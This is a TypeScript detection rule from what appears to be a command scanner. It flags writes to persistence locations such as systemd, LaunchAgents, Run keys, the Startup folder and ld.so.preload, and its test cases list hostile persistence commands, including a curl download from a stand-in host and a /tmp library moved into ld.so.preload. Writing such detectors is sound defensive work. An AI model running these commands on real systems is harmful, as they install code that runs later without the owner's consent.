import { defineRule, type Hit } from './rule.js';
import { capabilityUses, bareTarget } from '../catalog/uses.js';
import { display, isStagingPath, urlsIn } from './match.js';
import { isFetcher } from '../programs.js';
import type { Invocation, RuleContext } from '../ir.js';

/** Temporary and public folders (not merely hidden files: `~/.bashrc` is where profiles live). */
const STAGING_DIR = /^\/(tmp|var\/tmp|dev\/shm)\/|temp[\\/%]|[\\/]users[\\/]public|%public%|programdata|appdata/i;

/** What makes a persistence write clearly hostile: the payload comes from the network or a temporary/public folder. */
function stagedPayload(inv: Invocation, ctx: RuleContext): string | undefined {
  if (isFetcher(inv) || inv.upstream.some(isFetcher)) return 'downloaded straight from the network';
  const texts = [...inv.args, ...(inv.stdinText !== undefined ? [inv.stdinText] : []), ...inv.upstream.flatMap((u) => u.args)];
  for (const t of texts) {
    if (t.length > 2000) continue;
    if (urlsIn(t).length > 0) return 'it names a download address';
    if (t.split(/[\s'"=;,]+/).some((w) => isStagingPath(w) && STAGING_DIR.test(w))) return 'it points at a temporary or public folder';
  }
  void ctx;
  return undefined;
}

/** A plain text write (echo/printf/cat >> file): the payload rules judge what is written. */
const TEXT_WRITERS = new Set(['echo', 'printf', 'cat', 'write-output', 'tee']);

export const rule = defineRule({
  id: 'persistence_write',
  category: 'persistence',
  severity: 'high',
  technique: 'T1547',
  variable: true,
  title: 'Any program that can write files or registry keys writes a location that runs code later (cron, systemd, launchd, Run keys, Startup folder, IFEO…)',
  check(ctx) {
    const hits: Hit[] = [];
    for (const inv of ctx.invocations) {
      if ((inv.program === 'at' || inv.program === 'batch') && inv.lang === 'posix' && (inv.stdinText !== undefined || inv.upstream.length > 0) && !inv.args.some((a) => /^-[lrdc]$/.test(a))) {
        const staged = stagedPayload(inv, ctx);
        hits.push({ span: inv.span, severity: staged ? 'critical' : 'high', technique: 'T1053.002', explanation: `schedules a job with ${inv.program} that runs later without anyone asking${staged ? ` (${staged})` : ''}` });
        continue;
      }
      for (const use of capabilityUses(inv, ctx, ctx.catalog)) {
        if (use.cap !== 'write-file' || use.via === 'code') continue;
        let done = false;
        for (const raw of use.targets) {
          const t = ctx.catalog.matchPath(bareTarget(raw), ['persistence']);
          if (!t) continue;
          const textWrite = TEXT_WRITERS.has(inv.program) || TEXT_WRITERS.has(inv.upstream[0]?.program ?? '');
          // Shell start-up files: profile_payload judges a written line; a person editing one in an editor is everyday work.
          if (t.entry.severity === 'medium' && (textWrite || ctx.catalog.programs.some((p) => p.kind === 'editor' && p.names.includes(inv.program)))) continue;
          const staged = stagedPayload(inv, ctx);
          hits.push({
            span: inv.span,
            severity: staged ? 'critical' : t.entry.severity,
            technique: t.entry.technique,
            explanation: `${display(inv, 60)} writes ${t.entry.title}; what is put there runs again later without anyone asking${staged ? ` (${staged})` : ''}`,
          });
          done = true;
          break;
        }
        if (done) break;
      }
    }
    return hits;
  },
  cases: {
    positive: [
      ['bash', 'cp ./agent.service /etc/systemd/system/agent.service'],
      ['bash', 'curl -o ~/Library/LaunchAgents/com.x.plist https://x.example/p'],
      ['bash', 'install -m 755 ./hook /etc/update-motd.d/99-x'],
      ['cmd', 'reg add "HKLM\\SOFTWARE\\Microsoft\\Netsh" /v helper /d C:\\x\\h.dll'],
      ['powershell', "Copy-Item .\\u.lnk \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\\""],
      ['bash', 'mv /tmp/x.so /etc/ld.so.preload'],
    ],
    negative: [['bash', 'cat /etc/crontab'], ['bash', 'cp /etc/crontab ~/crontab.bak'], ['bash', "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc"], ['cmd', 'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run']],
  },
});
